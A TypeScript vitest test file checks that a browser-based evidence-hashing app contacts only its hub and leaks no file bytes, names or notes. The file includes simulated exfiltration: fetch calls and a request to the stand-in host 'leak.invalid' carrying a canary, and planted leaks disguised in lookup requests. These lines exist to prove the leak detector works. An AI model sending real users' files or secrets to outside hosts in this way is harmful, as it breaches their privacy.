import { request } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { findFirefox } from '../browser/find-browser.ts';
import { differences } from '../conformance/compare.ts';
import { LeakSearch } from '../e2e/leak-search.ts';
import { writeJpeg } from '../fixtures/jpeg-writer.ts';
import { paint } from '../fixtures/painter.ts';
import { disguises, planted } from './planted-leak.ts';
import { evidence, said, secrets, tellStory, type Story } from './story.ts';
import { noted, sorted } from './what-left.ts';

/** A picture of nobody's case: what its file has in common with evidence is its format's. */
const another = await writeJpeg(paint(90, 64, 48), 90);
const search = new LeakSearch(secrets, [another]);

const platforms = [
  { name: 'chromium', browser: 'chromium', traits: {} },
  { name: 'firefox', browser: 'firefox', traits: {} },
  { name: 'firefox-rfp', browser: 'firefox', traits: { resistFingerprinting: true } },
] as const;
type PlatformName = (typeof platforms)[number]['name'];

const hasFirefox = findFirefox() !== undefined;
const stories = new Map<PlatformName, Story>();
const of = (name: PlatformName): Story => {
  const story = stories.get(name);
  if (story === undefined) throw new Error(`There is no story of ${name}.`);
  return story;
};

beforeAll(async () => {
  const installed = platforms.filter(({ browser }) => browser === 'chromium' || hasFirefox);
  await Promise.all(
    installed.map(async ({ name, browser, traits }) => stories.set(name, await tellStory(browser, traits))),
  );
}, 600_000);
afterAll(async () => {
  for (const story of stories.values()) await story.stop();
});

describe.each(platforms)('the story of an officer in $name', ({ name, browser }) => {
  const skipped = browser === 'firefox' && !hasFirefox;

  it.skipIf(skipped)('has all of it happen', () => {
    const { report, verdicts, ledger } = of(name);
    expect(report.files.map(({ path, outcome }) => [path, outcome])).toEqual(
      evidence.map(({ path }) => [path, 'hashed']).sort(),
    );
    expect(new Set(verdicts)).toEqual(new Set(['new']));
    expect(ledger.map(({ route }) => route)).toEqual(
      expect.arrayContaining(['/api/v1/enrolments', '/api/v1/session', '/api/v1/lookups', '/api/v1/submissions']),
    );
  });

  it.skipIf(skipped)('contacts nobody but the hub, for shell files and what the ledger holds, to the byte', () => {
    const { proxy, hub, ledger, total } = of(name);
    const left = sorted(proxy.exchanges, hub.origin);
    expect(left.neither.map(({ head }) => head)).toEqual([]);
    expect(proxy.noise).toEqual([]);
    expect(left.shell.length).toBeGreaterThan(10);
    expect(left.api).toEqual(ledger);
    expect(total).toEqual([left.api.length, left.api.reduce((sum, { bytes }) => sum + bytes, 0)]);
  });

  it.skipIf(skipped)('lets no canary leave, and no 16 bytes of any file', () => {
    expect(search.leaksIn(of(name).proxy.exchanges)).toEqual([]);
  });
});

it.skipIf(!hasFirefox).each(['firefox', 'firefox-rfp'] as const)(
  '%s reports what Chromium reports, key by key',
  (name) => {
    expect(differences(of('chromium').report.files, of(name).report.files, { whole: true })).toEqual([]);
  },
);

describe('the proof of it', () => {
  it('looks for a great many windows, and sets aside only what another file has, too', () => {
    expect(search.size).toBeGreaterThan(100_000);
    const all = new LeakSearch(secrets).size;
    expect(search.size).toBeLessThan(all);
    expect(search.size).toBeGreaterThan(all * 0.99);
  });

  it('finds a planted leak, whatever it is dressed up as, and the ledger knows nothing of it', async () => {
    const { officer, proxy, ledger } = of('chromium');
    const [file] = evidence;
    const leaks = [
      { label: file?.label, bytes: Buffer.from(file?.bytes[1] ?? []).subarray(0, 40) },
      { label: file?.label, bytes: Buffer.from(file?.file ?? []).subarray(4_000, 4_024) },
      { label: file?.label, bytes: Buffer.from(file?.names[0] ?? '') },
      { label: file?.label, bytes: Buffer.from(file?.names[1] ?? '') },
      { label: 'said', bytes: Buffer.from(said.notes) },
      { label: 'said', bytes: Buffer.from(said.note) },
    ];
    for (const { label, bytes } of leaks) {
      for (const { name, write } of disguises) {
        const before = proxy.exchanges.length;
        await planted(officer.page, Buffer.from(write(bytes)));
        const left = proxy.exchanges.slice(before).filter(({ path }) => path === '/api/v1/lookups');
        const found = search.leaksIn(left).map((leak) => ({ label: leak.label, disguise: leak.disguise }));
        expect(left).toHaveLength(1);
        expect(found, `${String(label)} as ${name}`).toContainEqual({ label, disguise: name });
        for (const exchange of left) expect(ledger).not.toContainEqual(noted(exchange));
      }
    }
  });

  it('tells an address that carries something from shell and ledger, and sees another host', async () => {
    const { officer, proxy, hub } = of('chromium');
    const before = proxy.exchanges.length;
    const ended = await officer.page.evaluate(async () => {
      await fetch('/api/v1/lookups?name=canary');
      const blocked = [fetch('http://leak.invalid/'), fetch('/favicon.ico?name=canary')];
      return (await Promise.allSettled(blocked)).map(({ status }) => status);
    });
    expect(ended).toEqual(['rejected', 'rejected']);
    const contact = request({ port: proxy.port, path: 'http://leak.invalid/canary' });
    await new Promise((resolve) => contact.on('response', resolve).end());
    expect(sorted(proxy.exchanges.slice(before), hub.origin).neither).toMatchObject([
      { origin: hub.origin, path: '/api/v1/lookups', query: '?name=canary' },
      { origin: 'http://leak.invalid', path: '/canary' },
    ]);
  });
});
